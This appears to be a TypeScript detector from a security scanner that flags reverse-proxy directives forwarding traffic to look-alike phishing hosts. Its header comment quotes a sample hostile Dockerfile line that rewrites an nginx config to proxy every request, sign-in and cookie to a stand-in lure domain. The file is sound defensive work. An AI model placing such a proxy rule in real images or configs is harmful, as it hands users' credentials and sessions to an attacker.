/**
 * A front proxy configured in an image or a compose project to forward requests to a look-alike
 * host (R23: `RUN echo 'server { location / { proxy_pass https://acme-sso-login.io; } }' >
 * /etc/nginx/conf.d/default.conf`): every visitor's requests, sign-ins and cookies go to a site
 * shaped for lures. Proxying to the app's own container, a private address or a vendor's real
 * domain is what a front proxy is for.
 */
import { HOSTILE_HOST, LURE_HOST, posesAsBrand } from '../../knowledge/lure-host.js';
import { classifyHost } from '../../net/address.js';
import { registrable } from '../tool-call/recipients.js';

/** An upstream named by a proxy directive (nginx `proxy_pass`, Caddy `reverse_proxy`, Traefik `url`). */
const UPSTREAM = /\b(?:proxy_pass|reverse_proxy|grpc_pass|uwsgi_pass)\s+["']?(https?:\/\/[^\s;'"{}\\]+)/gi;

/** The look-alike host a proxy in `text` forwards to, or undefined. */
export function lureUpstream(text: string): string | undefined {
  if (text.length > 262144) return undefined;
  let seen = 0;
  for (const m of text.matchAll(UPSTREAM)) {
    if (++seen > 64) break;
    const host = /^https?:\/\/(?:[^@/]*@)?([^:/?#]+)/i.exec(m[1]!)?.[1]?.toLowerCase();
    if (host === undefined || classifyHost(host).class !== 'name' || !host.includes('.')) continue;
    // The registrable name is judged, so a company's own `auth.acme.com` is no lure.
    const reg = registrable(host);
    if (LURE_HOST.test(reg) || HOSTILE_HOST.test(reg) || posesAsBrand(host)) return host;
  }
  return undefined;
}
